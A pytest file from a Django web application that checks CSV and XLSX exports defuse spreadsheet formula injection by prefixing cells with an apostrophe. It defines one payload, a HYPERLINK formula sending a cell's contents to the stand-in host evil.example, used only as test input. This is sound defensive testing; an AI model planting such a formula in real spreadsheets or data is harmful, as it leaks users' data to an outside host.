"""Every CSV and XLSX download makes formula cells inert (issue 15, finding 3).

A value a spreadsheet would run as a formula (starting =, +, -, @, a tab or a carriage return)
comes out prefixed with an apostrophe; numbers stay numbers.
"""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from placements.cohort.services import create_return, import_return
from sufficiency.plan import services as plan_services
from tests.placements.returns import episodes, header
from tests.sufficiency.plan.conftest import plan  # noqa: F401  (the fixture)

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_action_plan_xlsx_has_no_live_formula(client_for, plan, cast):  # noqa: F811
    plan_services.add_action(
        priority=plan["priorities"][0], user=cast["admin"], title=PAYLOAD, owner="+SUM(A1:A9)"
    )
    response = client_for("editor").get(
        reverse("actions:export", kwargs={"la_code": plan["strategy"].la.code})
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + PAYLOAD in texts
    assert "'+SUM(A1:A9)" in texts
    assert not any(t.startswith(FORMULA_STARTS) for t in texts)


def test_problems_csv_repeats_uploaded_values_inert(client_for, la):
    # PLACE "=1+2" and ETHNIC "@SUM(1)" are unknown codes: each is kept with a warning that
    # repeats the value, and the problems CSV lists them.
    upload = [
        header("1,1,01/06/2010,@SUM(1),A1,,"),
        episodes("1,01/05/2024,S,C2,N1,=1+2,PR1,,,,,,"),
    ]
    return_obj = import_return(create_return(la=la, year=2025, uploads=upload, user=None))
    response = client_for("viewer").get(
        reverse("data:return_problems", kwargs={"la_code": la.code, "pk": return_obj.pk})
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert "'=1+2" in cells
    assert "'@SUM(1)" in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    # Numbers stay numbers: the summary row's counts are plain digits.
    assert rows[1][3].isdigit()
